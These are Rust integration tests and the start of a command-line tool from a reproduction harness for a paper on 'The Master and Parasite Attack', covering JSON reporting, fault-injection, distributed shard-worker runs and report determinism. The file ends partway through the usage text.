