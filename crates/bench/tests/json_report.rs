//! Machine-readability smoke test: the `--json` report must parse as JSON
//! and contain one structured artifact per experiment id, and the parallel
//! batch runner must produce exactly the sequential results.

use mp_bench::{render_report, report_json, run_all};
use parasite::experiments::{ExperimentId, RunConfig};
use parasite::json::Json;

/// A configuration small enough to run the full suite in seconds.
fn quick_config() -> RunConfig {
    RunConfig {
        sites: 1_500,
        crawl_sites: 400,
        days: 20,
        ..RunConfig::default()
    }
}

#[test]
fn json_report_parses_and_covers_all_eleven_experiments() {
    let config = quick_config();
    let artifacts = run_all(&config, 4);
    let text = report_json(&config, &artifacts).to_string();
    let parsed = Json::parse(&text).expect("the JSON report must parse");

    let ids: Vec<&str> = parsed
        .get("artifacts")
        .and_then(Json::as_array)
        .expect("report carries an artifact array")
        .iter()
        .map(|a| a.get("id").and_then(Json::as_str).expect("artifact has an id"))
        .collect();
    let expected: Vec<&str> = ExperimentId::ALL.iter().map(|id| id.as_str()).collect();
    assert_eq!(ids, expected, "one artifact per experiment, in the paper's order");

    // Every artifact carries the config it ran under and a structured body.
    for artifact in parsed.get("artifacts").and_then(Json::as_array).unwrap() {
        assert_eq!(
            artifact.get("config").and_then(|c| c.get("crawl_sites")).and_then(Json::as_u64),
            Some(400)
        );
        assert!(artifact.get("data").is_some(), "artifact has structured data");
    }
}

#[test]
fn parallel_report_matches_sequential_report() {
    let config = quick_config();
    let sequential = run_all(&config, 1);
    let parallel = run_all(&config, 8);
    assert_eq!(sequential, parallel);
    assert_eq!(render_report(&sequential), render_report(&parallel));
}
