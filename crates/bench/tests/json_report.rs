//! Machine-readability smoke test: the `--json` report must parse as JSON
//! and contain one structured artifact per experiment id, and the parallel
//! batch runner must produce exactly the sequential results.

use mp_bench::{render_report, report_json, run_all};
use parasite::experiments::{ExperimentId, RunConfig};
use parasite::json::Json;

/// A configuration small enough to run the full suite in seconds.
fn quick_config() -> RunConfig {
    RunConfig {
        sites: 1_500,
        crawl_sites: 400,
        days: 20,
        ..RunConfig::default()
    }
}

#[test]
fn json_report_parses_and_covers_all_eleven_experiments() {
    let config = quick_config();
    let artifacts = run_all(&config, 4);
    let text = report_json(&config, &artifacts).to_string();
    let parsed = Json::parse(&text).expect("the JSON report must parse");

    let ids: Vec<&str> = parsed
        .get("artifacts")
        .and_then(Json::as_array)
        .expect("report carries an artifact array")
        .iter()
        .map(|a| a.get("id").and_then(Json::as_str).expect("artifact has an id"))
        .collect();
    let expected: Vec<&str> = ExperimentId::ALL.iter().map(|id| id.as_str()).collect();
    assert_eq!(ids, expected, "one artifact per experiment, in the paper's order");

    // Every artifact carries the config it ran under and a structured body.
    for artifact in parsed.get("artifacts").and_then(Json::as_array).unwrap() {
        assert_eq!(
            artifact.get("config").and_then(|c| c.get("crawl_sites")).and_then(Json::as_u64),
            Some(400)
        );
        assert!(artifact.get("data").is_some(), "artifact has structured data");
    }
}

#[test]
fn campaign_fleet_json_is_structured_and_opt_in() {
    let config = RunConfig {
        fleet_clients: 640,
        fleet_aps: 8,
        ..quick_config()
    };
    // The default report does not include the extension experiment...
    assert!(!ExperimentId::ALL.contains(&ExperimentId::CampaignFleet));
    // ...but selecting it explicitly yields a parseable structured artifact.
    let results = mp_bench::try_run_selected(&[ExperimentId::CampaignFleet], &config, 1);
    let artifact = results[0].as_ref().expect("small fleet completes");
    let parsed = Json::parse(&report_json(&config, std::slice::from_ref(artifact)).to_string())
        .expect("campaign JSON parses");
    let entry = &parsed.get("artifacts").and_then(Json::as_array).unwrap()[0];
    assert_eq!(entry.get("id").and_then(Json::as_str), Some("campaign_fleet"));
    let data = entry.get("data").expect("structured data");
    assert_eq!(data.get("clients").and_then(Json::as_u64), Some(640));
    let infected = data.get("infected_clients").and_then(Json::as_u64).unwrap();
    let clean = data.get("clean_clients").and_then(Json::as_u64).unwrap();
    assert_eq!(infected + clean, 640);
    assert_eq!(data.get("failed_aps").and_then(Json::as_u64), Some(0));
}

#[test]
fn starved_experiment_reports_an_error_without_sinking_the_report() {
    let config = RunConfig {
        event_budget: 3,
        ..quick_config()
    };
    let results =
        mp_bench::try_run_selected(&[ExperimentId::Fig2, ExperimentId::Ablation], &config, 2);
    assert!(results[0].is_err(), "three events cannot complete a handshake");
    assert!(results[1].is_ok(), "the sibling experiment still completes");
}

#[test]
fn parallel_report_matches_sequential_report() {
    let config = quick_config();
    let sequential = run_all(&config, 1);
    let parallel = run_all(&config, 8);
    assert_eq!(sequential, parallel);
    assert_eq!(render_report(&sequential), render_report(&parallel));
}
