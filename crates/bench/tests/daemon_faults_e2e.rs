//! Fault injection on the daemon's `shard_submit` path, driven through the
//! real `paper-report serve` binary: the MP_FAULT_PLAN spec (see
//! PROTOCOL.md) is set on the daemon process only, so a coordinator fanning
//! a campaign out across daemons can rehearse a daemon that garbles a
//! result line or dies mid-shard.

use std::io::{BufRead, BufReader, Write};
use std::os::unix::net::UnixStream;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

fn temp_dir(tag: &str) -> PathBuf {
    let dir =
        std::env::temp_dir().join(format!("mp-daemon-faults-{}-{tag}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).expect("temp dir");
    dir
}

/// Starts `paper-report serve` with the given fault env and waits for the
/// socket to appear.
fn spawn_daemon(socket: &Path, plan: &str, claims: &Path) -> Child {
    let child = Command::new(env!("CARGO_BIN_EXE_paper-report"))
        .args(["serve", "--socket", socket.to_str().unwrap()])
        .env("MP_FAULT_PLAN", plan)
        .env("MP_FAULT_DIR", claims)
        .stderr(Stdio::null())
        .spawn()
        .expect("daemon spawns");
    let deadline = Instant::now() + Duration::from_secs(10);
    while !socket.exists() {
        assert!(Instant::now() < deadline, "daemon never bound its socket");
        std::thread::sleep(Duration::from_millis(20));
    }
    child
}

const SHARD_SUBMIT: &str = concat!(
    "{\"op\":\"shard_submit\",\"config\":{\"seed\":13,\"fleet_clients\":2000,",
    "\"fleet_aps\":4,\"fleet_days\":3,\"fleet_churn\":0.2,\"fleet_jobs\":1},",
    "\"first_ap\":0,\"aps\":2}"
);

fn request_line(socket: &Path, request: &str) -> String {
    let mut stream = UnixStream::connect(socket).expect("connect to daemon");
    writeln!(stream, "{request}").expect("write request");
    let mut reader = BufReader::new(stream.try_clone().expect("clone stream"));
    let mut line = String::new();
    reader.read_line(&mut line).expect("read reply line");
    line
}

#[test]
fn a_garble_fault_truncates_the_daemons_shard_result_line() {
    let dir = temp_dir("garble");
    let socket = dir.join("daemon.sock");
    let claims = dir.join("claims");
    // garble@1: the first shard runs to completion but its result line is
    // cut short; the second shard must come back intact — the fault is
    // positional, not sticky.
    let mut daemon = spawn_daemon(&socket, "garble@1", &claims);

    let garbled = request_line(&socket, SHARD_SUBMIT);
    assert!(
        !garbled.trim().is_empty() && garbled.starts_with('{'),
        "the garbled reply is a strict prefix of the result: {garbled:?}"
    );
    assert!(
        parasite::json::Json::parse(garbled.trim()).is_err(),
        "a garbled line must not parse: {garbled:?}"
    );

    let intact = request_line(&socket, SHARD_SUBMIT);
    let reply = parasite::json::Json::parse(intact.trim()).expect("second reply parses");
    assert_eq!(
        reply.get("type").and_then(parasite::json::Json::as_str),
        Some("shard_result"),
        "got: {intact}"
    );

    let _ = request_line(&socket, "{\"op\":\"shutdown\"}");
    let _ = daemon.wait();
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn a_crash_fault_kills_the_daemon_before_the_shard_result() {
    let dir = temp_dir("crash");
    let socket = dir.join("daemon.sock");
    let claims = dir.join("claims");
    let mut daemon = spawn_daemon(&socket, "crash@1", &claims);

    // The daemon dies before replying: the connection sees EOF.
    let mut stream = UnixStream::connect(&socket).expect("connect to daemon");
    writeln!(stream, "{SHARD_SUBMIT}").expect("write request");
    let mut reader = BufReader::new(stream);
    let mut line = String::new();
    let read = reader.read_line(&mut line).expect("read returns");
    assert_eq!(read, 0, "the crashed daemon must hang up, got: {line:?}");

    let status = daemon.wait().expect("daemon exits");
    assert_eq!(status.code(), Some(3), "the crash fault exits 3");
    let _ = std::fs::remove_dir_all(&dir);
}
