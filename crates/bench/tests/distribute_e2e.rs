//! End-to-end tests for the distributed campaign mode: the `distribute`
//! coordinator and its `shard-worker` child processes, driven through the
//! real binary. The contract under test is the determinism guarantee of the
//! shard decomposition — a campaign split across worker processes merges to
//! the byte-identical single-process report, including after a worker is
//! killed mid-assignment and its range is retried.

use std::io::Write;
use std::process::{Command, Output, Stdio};

/// A fast multi-day campaign: small enough for a test, big enough that
/// every one of three shards owns at least one AP.
const CAMPAIGN: [&str; 12] = [
    "--only",
    "campaign_fleet",
    "--seed",
    "13",
    "--fleet-clients",
    "2000",
    "--fleet-aps",
    "4",
    "--fleet-days",
    "3",
    "--fleet-churn",
    "0.2",
];

fn paper_report(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_paper-report"))
        .args(args)
        .output()
        .expect("paper-report spawns")
}

fn stdout_of(output: &Output) -> String {
    assert!(
        output.status.success(),
        "exit {:?}; stderr: {}",
        output.status.code(),
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8(output.stdout.clone()).expect("utf-8 report")
}

fn temp_dir(tag: &str) -> std::path::PathBuf {
    let dir =
        std::env::temp_dir().join(format!("mp-distribute-e2e-{}-{tag}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).expect("temp dir");
    dir
}

#[test]
fn distribute_matches_the_batch_report_byte_for_byte() {
    let batch_json = stdout_of(&paper_report(&[CAMPAIGN.as_slice(), &["--json"]].concat()));
    let distributed_json = stdout_of(&paper_report(
        &[&["distribute", "--workers", "3"], CAMPAIGN.as_slice(), &["--json"]].concat(),
    ));
    assert_eq!(
        distributed_json, batch_json,
        "three workers must merge to the single-process JSON report"
    );

    // The human-readable rendering goes through the same merged artifact.
    let batch_text = stdout_of(&paper_report(&CAMPAIGN));
    let distributed_text = stdout_of(&paper_report(
        &[&["distribute", "--workers", "3"], CAMPAIGN.as_slice()].concat(),
    ));
    assert_eq!(distributed_text, batch_text);

    // More workers than APs: the split caps at one AP per shard and the
    // report is still identical.
    let many = stdout_of(&paper_report(
        &[&["distribute", "--workers", "9"], CAMPAIGN.as_slice(), &["--json"]].concat(),
    ));
    assert_eq!(many, batch_json);
}

#[test]
fn a_killed_worker_is_retried_and_the_report_still_matches() {
    let dir = temp_dir("crash");
    let latch = dir.join("crash.latch");
    let batch = stdout_of(&paper_report(&[CAMPAIGN.as_slice(), &["--json"]].concat()));

    let output = Command::new(env!("CARGO_BIN_EXE_paper-report"))
        .args([&["distribute", "--workers", "3"], CAMPAIGN.as_slice(), &["--json"]].concat())
        .env("MP_SHARD_WORKER_CRASH_ONCE", &latch)
        .output()
        .expect("paper-report spawns");
    assert!(
        latch.exists(),
        "the crash latch must have been claimed — no worker actually died"
    );
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("retrying"),
        "the coordinator must report the retried range; stderr: {stderr}"
    );
    assert_eq!(
        stdout_of(&output),
        batch,
        "a killed worker's range must be retried and the merged report must \
         still match the batch run"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn shard_worker_speaks_the_newline_json_protocol() {
    let mut child = Command::new(env!("CARGO_BIN_EXE_paper-report"))
        .arg("shard-worker")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("shard-worker spawns");
    {
        let mut stdin = child.stdin.take().expect("worker stdin");
        // One valid assignment (APs [1, 3) of the 4-AP campaign), then two
        // malformed lines; the worker must answer all three and exit on EOF.
        writeln!(
            stdin,
            "{}",
            concat!(
                "{\"op\":\"shard_run\",\"config\":{\"seed\":13,",
                "\"fleet_clients\":2000,\"fleet_aps\":4,\"fleet_days\":3,",
                "\"fleet_churn\":0.2},\"first_ap\":1,\"aps\":2}"
            )
        )
        .expect("write assignment");
        writeln!(stdin, "{{\"op\":\"fly\"}}").expect("write bad op");
        writeln!(stdin, "not json").expect("write garbage");
    }
    let output = child.wait_with_output().expect("worker exits");
    assert!(output.status.success(), "EOF is a clean exit");
    let stdout = String::from_utf8(output.stdout).expect("utf-8 replies");
    let replies: Vec<&str> = stdout.lines().collect();
    assert_eq!(replies.len(), 3, "one reply line per assignment: {stdout}");
    assert!(
        replies[0].contains("\"type\":\"shard_result\"")
            && replies[0].contains("\"first_ap\":1")
            && replies[0].contains("\"aps\":2")
            && replies[0].contains("\"kind\":\"mp-campaign-checkpoint\""),
        "got: {}",
        replies[0]
    );
    assert!(
        replies[1].contains("\"type\":\"error\"") && replies[1].contains("unknown worker op"),
        "got: {}",
        replies[1]
    );
    assert!(
        replies[2].contains("\"type\":\"error\"") && replies[2].contains("not valid JSON"),
        "got: {}",
        replies[2]
    );
}

#[test]
fn distribute_rejects_undistributable_configurations() {
    let assert_rejected = |args: &[&str], expected: &str| {
        let output = paper_report(args);
        assert_eq!(
            output.status.code(),
            Some(2),
            "args {args:?} should be a usage error"
        );
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(
            stderr.contains(expected),
            "args {args:?}: stderr {stderr:?} does not mention {expected:?}"
        );
    };
    // distribute is a dedicated multi-day campaign_fleet operation.
    assert_rejected(&["distribute", "--workers", "3"], "--only campaign_fleet");
    assert_rejected(
        &["distribute", "--workers", "3", "--only", "campaign_fleet"],
        "--fleet-days",
    );
    assert_rejected(
        &[&["distribute", "--workers", "0"], CAMPAIGN.as_slice()].concat(),
        "--workers must be at least 1",
    );
    assert_rejected(
        &[
            &["distribute", "--workers", "3"],
            CAMPAIGN.as_slice(),
            &["--global-event-budget", "1000"],
        ]
        .concat(),
        "--global-event-budget",
    );
    // The scheduling-only flags never reach the batch parser...
    assert_rejected(&[CAMPAIGN.as_slice(), &["--workers", "3"]].concat(), "distribute");
}
