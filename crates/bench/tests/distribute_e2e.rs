//! End-to-end tests for the distributed campaign mode: the `distribute`
//! coordinator and its `shard-worker` child processes, driven through the
//! real binary. The contract under test is the determinism guarantee of the
//! shard decomposition — a campaign split across worker processes merges to
//! the byte-identical single-process report, including after a worker is
//! killed mid-assignment and its range is retried.

use std::io::Write;
use std::process::{Command, Output, Stdio};

/// A fast multi-day campaign: small enough for a test, big enough that
/// every one of three shards owns at least one AP.
const CAMPAIGN: [&str; 12] = [
    "--only",
    "campaign_fleet",
    "--seed",
    "13",
    "--fleet-clients",
    "2000",
    "--fleet-aps",
    "4",
    "--fleet-days",
    "3",
    "--fleet-churn",
    "0.2",
];

fn paper_report(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_paper-report"))
        .args(args)
        .output()
        .expect("paper-report spawns")
}

fn stdout_of(output: &Output) -> String {
    assert!(
        output.status.success(),
        "exit {:?}; stderr: {}",
        output.status.code(),
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8(output.stdout.clone()).expect("utf-8 report")
}

fn temp_dir(tag: &str) -> std::path::PathBuf {
    let dir =
        std::env::temp_dir().join(format!("mp-distribute-e2e-{}-{tag}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).expect("temp dir");
    dir
}

#[test]
fn distribute_matches_the_batch_report_byte_for_byte() {
    let batch_json = stdout_of(&paper_report(&[CAMPAIGN.as_slice(), &["--json"]].concat()));
    let distributed_json = stdout_of(&paper_report(
        &[&["distribute", "--workers", "3"], CAMPAIGN.as_slice(), &["--json"]].concat(),
    ));
    assert_eq!(
        distributed_json, batch_json,
        "three workers must merge to the single-process JSON report"
    );

    // The human-readable rendering goes through the same merged artifact.
    let batch_text = stdout_of(&paper_report(&CAMPAIGN));
    let distributed_text = stdout_of(&paper_report(
        &[&["distribute", "--workers", "3"], CAMPAIGN.as_slice()].concat(),
    ));
    assert_eq!(distributed_text, batch_text);

    // More workers than APs: the split caps at one AP per shard and the
    // report is still identical.
    let many = stdout_of(&paper_report(
        &[&["distribute", "--workers", "9"], CAMPAIGN.as_slice(), &["--json"]].concat(),
    ));
    assert_eq!(many, batch_json);
}

#[test]
fn a_killed_worker_is_retried_and_the_report_still_matches() {
    let dir = temp_dir("crash");
    let claims = dir.join("claims");
    let batch = stdout_of(&paper_report(&[CAMPAIGN.as_slice(), &["--json"]].concat()));

    let output = Command::new(env!("CARGO_BIN_EXE_paper-report"))
        .args([&["distribute", "--workers", "3"], CAMPAIGN.as_slice(), &["--json"]].concat())
        .env("MP_FAULT_PLAN", "crash@1")
        .env("MP_FAULT_DIR", &claims)
        .output()
        .expect("paper-report spawns");
    assert!(
        claims.join("assign-000001").exists(),
        "the crash fault must have been claimed — no worker actually died"
    );
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("retrying"),
        "the coordinator must report the retried range; stderr: {stderr}"
    );
    assert_eq!(
        stdout_of(&output),
        batch,
        "a killed worker's range must be retried and the merged report must \
         still match the batch run"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn a_chaos_plan_with_crash_hang_and_garble_still_matches_the_batch_report() {
    let dir = temp_dir("chaos");
    let claims = dir.join("claims");
    let batch = stdout_of(&paper_report(&[CAMPAIGN.as_slice(), &["--json"]].concat()));

    // One worker crashes before replying, one garbles its reply line, one
    // hangs until the shard timeout kills it; every range retries and the
    // merged report is still byte-identical.
    let output = Command::new(env!("CARGO_BIN_EXE_paper-report"))
        .args(
            [
                &["distribute", "--workers", "3", "--shard-timeout", "2"],
                CAMPAIGN.as_slice(),
                &["--json"],
            ]
            .concat(),
        )
        .env("MP_FAULT_PLAN", "crash@1,garble@2,hang@3")
        .env("MP_FAULT_DIR", &claims)
        .output()
        .expect("paper-report spawns");
    let stderr = String::from_utf8_lossy(&output.stderr).to_string();
    assert_eq!(stdout_of(&output), batch, "chaos must not change the report; stderr: {stderr}");
    assert!(
        stderr.contains("exited without replying"),
        "the crash must be reported: {stderr}"
    );
    assert!(stderr.contains("not valid JSON"), "the garble must be reported: {stderr}");
    assert!(stderr.contains("shard timeout"), "the hang must be reported: {stderr}");
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn fault_plans_are_deterministic_across_runs() {
    let dir = temp_dir("determinism");
    let run = |tag: &str| {
        let claims = dir.join(tag);
        let output = Command::new(env!("CARGO_BIN_EXE_paper-report"))
            .args(
                [&["distribute", "--workers", "1"], CAMPAIGN.as_slice(), &["--json"]].concat(),
            )
            .env("MP_FAULT_PLAN", "crash@1,garble@2,seed=42")
            .env("MP_FAULT_DIR", &claims)
            .output()
            .expect("paper-report spawns");
        (stdout_of(&output), String::from_utf8_lossy(&output.stderr).to_string())
    };
    // The same plan + seed over a single worker yields the identical
    // retry/requeue sequence (stderr warnings) and the identical report.
    let (first_out, first_err) = run("first");
    let (second_out, second_err) = run("second");
    assert_eq!(first_out, second_out);
    let warnings = |stderr: &str| {
        stderr
            .lines()
            .filter(|line| line.starts_with("warning:"))
            .collect::<Vec<_>>()
            .join("\n")
    };
    assert_eq!(
        warnings(&first_err),
        warnings(&second_err),
        "the retry sequence must replay identically"
    );
    assert!(warnings(&first_err).contains("attempt 1/"), "faults must have fired");
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn a_torn_journal_write_is_discarded_on_resume_and_the_report_matches() {
    let dir = temp_dir("journal");
    let journal = dir.join("journal");
    let claims = dir.join("claims");
    let batch = stdout_of(&paper_report(&[CAMPAIGN.as_slice(), &["--json"]].concat()));

    // First attempt: the coordinator tears its first journal entry and dies.
    let output = Command::new(env!("CARGO_BIN_EXE_paper-report"))
        .args(
            [
                &["distribute", "--workers", "2", "--journal", journal.to_str().unwrap()],
                CAMPAIGN.as_slice(),
                &["--json"],
            ]
            .concat(),
        )
        .env("MP_FAULT_PLAN", "torn@1")
        .env("MP_FAULT_DIR", &claims)
        .output()
        .expect("paper-report spawns");
    assert_eq!(
        output.status.code(),
        Some(17),
        "the torn-write fault kills the coordinator; stderr: {}",
        String::from_utf8_lossy(&output.stderr)
    );

    // Resume without faults: the torn entry is discarded, its range re-runs,
    // and the merged report is byte-identical to the batch run.
    let output = Command::new(env!("CARGO_BIN_EXE_paper-report"))
        .args(
            [
                &["distribute", "--workers", "2", "--journal", journal.to_str().unwrap()],
                CAMPAIGN.as_slice(),
                &["--json"],
            ]
            .concat(),
        )
        .output()
        .expect("paper-report spawns");
    let stderr = String::from_utf8_lossy(&output.stderr).to_string();
    assert!(
        stderr.contains("discarded damaged journal entry"),
        "the torn entry must be reported: {stderr}"
    );
    assert_eq!(stdout_of(&output), batch, "journal resume must be byte-identical");

    // A third run resumes from a complete journal: nothing re-runs, and the
    // report is still byte-identical.
    let output = Command::new(env!("CARGO_BIN_EXE_paper-report"))
        .args(
            [
                &["distribute", "--workers", "2", "--journal", journal.to_str().unwrap()],
                CAMPAIGN.as_slice(),
                &["--json"],
            ]
            .concat(),
        )
        .output()
        .expect("paper-report spawns");
    let stderr = String::from_utf8_lossy(&output.stderr).to_string();
    assert!(
        stderr.contains("resuming from journal"),
        "the resume must be reported: {stderr}"
    );
    assert_eq!(stdout_of(&output), batch, "a fully-journaled campaign replays byte-identically");
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn an_exhausted_retry_limit_names_the_poisoned_range() {
    let dir = temp_dir("retry-limit");
    let claims = dir.join("claims");
    // Every assignment crashes; with --retry-limit 1 the first range fails
    // after two attempts and the run aborts with an error naming it.
    let output = Command::new(env!("CARGO_BIN_EXE_paper-report"))
        .args(
            [
                &["distribute", "--workers", "1", "--retry-limit", "1"],
                CAMPAIGN.as_slice(),
                &["--json"],
            ]
            .concat(),
        )
        .env("MP_FAULT_PLAN", "crash@1,crash@2,crash@3,crash@4")
        .env("MP_FAULT_DIR", &claims)
        .output()
        .expect("paper-report spawns");
    assert_eq!(output.status.code(), Some(1), "an exhausted range fails the run");
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("distributed shard failed")
            && stderr.contains("exhausting --retry-limit 1")
            && stderr.contains("range ["),
        "the error must be typed and name the range: {stderr}"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn shard_worker_speaks_the_newline_json_protocol() {
    let mut child = Command::new(env!("CARGO_BIN_EXE_paper-report"))
        .arg("shard-worker")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("shard-worker spawns");
    {
        let mut stdin = child.stdin.take().expect("worker stdin");
        // One valid assignment (APs [1, 3) of the 4-AP campaign), then two
        // malformed lines; the worker must answer all three and exit on EOF.
        writeln!(
            stdin,
            "{}",
            concat!(
                "{\"op\":\"shard_run\",\"config\":{\"seed\":13,",
                "\"fleet_clients\":2000,\"fleet_aps\":4,\"fleet_days\":3,",
                "\"fleet_churn\":0.2},\"first_ap\":1,\"aps\":2}"
            )
        )
        .expect("write assignment");
        writeln!(stdin, "{{\"op\":\"fly\"}}").expect("write bad op");
        writeln!(stdin, "not json").expect("write garbage");
    }
    let output = child.wait_with_output().expect("worker exits");
    assert!(output.status.success(), "EOF is a clean exit");
    let stdout = String::from_utf8(output.stdout).expect("utf-8 replies");
    let replies: Vec<&str> = stdout.lines().collect();
    assert_eq!(replies.len(), 3, "one reply line per assignment: {stdout}");
    assert!(
        replies[0].contains("\"type\":\"shard_result\"")
            && replies[0].contains("\"first_ap\":1")
            && replies[0].contains("\"aps\":2")
            && replies[0].contains("\"kind\":\"mp-campaign-checkpoint\""),
        "got: {}",
        replies[0]
    );
    assert!(
        replies[1].contains("\"type\":\"error\"") && replies[1].contains("unknown worker op"),
        "got: {}",
        replies[1]
    );
    assert!(
        replies[2].contains("\"type\":\"error\"") && replies[2].contains("not valid JSON"),
        "got: {}",
        replies[2]
    );
}

#[test]
fn distribute_rejects_undistributable_configurations() {
    let assert_rejected = |args: &[&str], expected: &str| {
        let output = paper_report(args);
        assert_eq!(
            output.status.code(),
            Some(2),
            "args {args:?} should be a usage error"
        );
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(
            stderr.contains(expected),
            "args {args:?}: stderr {stderr:?} does not mention {expected:?}"
        );
    };
    // distribute is a dedicated multi-day campaign_fleet operation.
    assert_rejected(&["distribute", "--workers", "3"], "--only campaign_fleet");
    assert_rejected(
        &["distribute", "--workers", "3", "--only", "campaign_fleet"],
        "--fleet-days",
    );
    assert_rejected(
        &[&["distribute", "--workers", "0"], CAMPAIGN.as_slice()].concat(),
        "--workers must be at least 1",
    );
    assert_rejected(
        &[
            &["distribute", "--workers", "3"],
            CAMPAIGN.as_slice(),
            &["--global-event-budget", "1000"],
        ]
        .concat(),
        "--global-event-budget",
    );
    // The scheduling-only flags never reach the batch parser...
    assert_rejected(&[CAMPAIGN.as_slice(), &["--workers", "3"]].concat(), "distribute");
}
