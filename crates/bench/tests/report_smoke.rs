//! Smoke test for the `paper-report` output: the report must be non-empty and
//! contain every table and figure header of the paper, so `cargo run -p
//! mp-bench --bin paper-report` can never silently lose an artefact.

/// The headers the paper's evaluation section produces, one per artefact.
const EXPECTED_HEADERS: [&str; 10] = [
    "Table I - cache eviction on popular browsers",
    "Table II - TCP injection evaluation",
    "Table III - refresh methods vs Cache-API parasites",
    "Table IV - caches in the wild",
    "Table V - attacks against applications",
    "Figure 1 - cache eviction message flow",
    "Figure 2 - cache infection message flow",
    "Figure 3 - object persistency over the measurement period",
    "Figure 4 - C&C channel characterisation",
    "Figure 5 / in-text measurements",
];

#[test]
fn full_report_contains_every_table_and_figure() {
    let report = mp_bench::full_report();
    assert!(!report.trim().is_empty(), "report must not be empty");
    for header in EXPECTED_HEADERS {
        assert!(
            report.contains(header),
            "report is missing artefact header {header:?}"
        );
    }
    // Sanity on substance, not just headers: every artefact renders at least
    // a few rows, so the report is far longer than its headers alone.
    assert!(
        report.lines().count() > 100,
        "report looks truncated: {} lines",
        report.lines().count()
    );
}

#[test]
fn full_report_is_deterministic() {
    // The experiments all run on seeded RNGs; two renders must be identical
    // (the paper artefacts are meant to be reproducible byte-for-byte).
    assert_eq!(mp_bench::full_report(), mp_bench::full_report());
}
