//! Prints every regenerated table and figure of the paper.

fn main() {
    println!("{}", mp_bench::full_report());
}
