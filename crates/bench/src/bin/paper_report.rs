//! Regenerates the paper's tables and figures from the experiment registry.
//!
//! ```text
//! paper-report                         # full text report, defaults
//! paper-report --json --jobs 8         # machine-readable, parallel
//! paper-report --only table1,fig3      # a subset of the artefacts
//! paper-report --seed 7 --scale 500    # tweak the run configuration
//! paper-report serve --socket /tmp/mp.sock          # service daemon
//! paper-report submit --socket /tmp/mp.sock \
//!     --only campaign_fleet --fleet-days 5 --watch  # stream a campaign
//! paper-report distribute --workers 3 \
//!     --only campaign_fleet --fleet-days 5          # multi-process campaign
//! ```

use mp_bench::{render_report, report_json, try_run_selected};
use mp_service::{Client, Daemon, Endpoint, Request, Response, RunOutcome, ServeOptions};
use parasite::experiments::{
    run_campaign_with_checkpoint, Artifact, ArtifactData, DayStats, ExperimentId, RunConfig,
    SurfaceVector,
};
use std::path::PathBuf;
use std::process::ExitCode;

const USAGE: &str = "\
paper-report: regenerate the tables and figures of The Master and Parasite Attack

USAGE:
    paper-report [OPTIONS]
    paper-report distribute --workers <n> [OPTIONS]
    paper-report <SUBCOMMAND> --socket <path> [OPTIONS]

SUBCOMMANDS (distributed mode, newline-JSON protocol; see PROTOCOL.md):
    distribute            split one multi-day campaign_fleet run into
                          contiguous AP-range shards, execute them on
                          --workers shard-worker processes (fresh local
                          re-executions of this binary, or any --worker-cmd
                          such as an ssh one-liner), merge the partial
                          outcomes and print the report — byte-identical to
                          the single-process batch run, including after a
                          worker dies and its range is retried. Requires
                          exactly --only campaign_fleet and --fleet-days >= 2
    shard-worker          serve shard assignments from stdin, one reply line
                          per assignment, until EOF (spawned by distribute;
                          rarely run by hand)

SUBCOMMANDS (service mode, newline-JSON protocol; see PROTOCOL.md):
    serve                 start the campaign service daemon on --socket (and
                          optionally --tcp), serving concurrent submissions
                          until a client sends shutdown
    submit                submit one experiment (exactly one --only id, with
                          any of the batch configuration flags below) to a
                          running daemon; --watch streams its days
    status                list the daemon's runs (or one with --run <n>)
    watch                 replay and follow one run's day stream (--run <n>)
    cancel                cooperatively cancel a run (--run <n>); a multi-day
                          campaign stops at the next day boundary, leaving a
                          resumable checkpoint
    shutdown              cancel everything and stop the daemon

SUBCOMMANDS (static analysis):
    lint                  run the mp-lint determinism & protocol pass over
                          the workspace sources (--json, --fix-hints,
                          --root <dir>); exits 1 on any diagnostic; see the
                          README's \"Static analysis\" section

SERVICE OPTIONS:
    --socket <path>       unix socket the daemon binds / clients dial
    --tcp <addr>          TCP address (serve: extra listener; clients: dial
                          this instead of the unix socket)
    --serve-workers <n>   serve: concurrent runs executed at once [default: 2]
    --serve-queue-limit <n>
                          serve: bound the submission queue; a submit past
                          the bound is rejected with a typed queue_full
                          error until a worker drains the queue
                          (0 = unbounded) [default: 0]
    --run <n>             status/watch/cancel: the run id
    --watch               submit: stay connected and stream day/done lines

DISTRIBUTE OPTIONS:
    --workers <n>         shard-worker processes to execute on [default: 2]
    --worker-cmd <cmd>    launch each worker via `sh -c <cmd>` instead of
                          re-executing this binary, e.g.
                          \"ssh host paper-report shard-worker\"
    --journal <dir>       write each completed shard outcome into <dir>
                          (atomically, in the checkpoint codec); rerunning
                          with the same --journal resumes after a
                          coordinator death, re-executing only the ranges
                          without a valid entry — the merged report stays
                          byte-identical to the uninterrupted run
    --shard-timeout <secs>
                          kill and requeue a worker silent for this long on
                          one assignment; 0 derives the deadline from the
                          first completed shard (5x its duration, floored
                          at 10s) [default: 0]
    --retry-limit <n>     per-shard retry budget; a range that keeps failing
                          is abandoned with a typed error after n retries
                          (0 = fail on the first error) [default: 3]

OPTIONS:
    --only <ids>          run only these experiments (comma-separated ids,
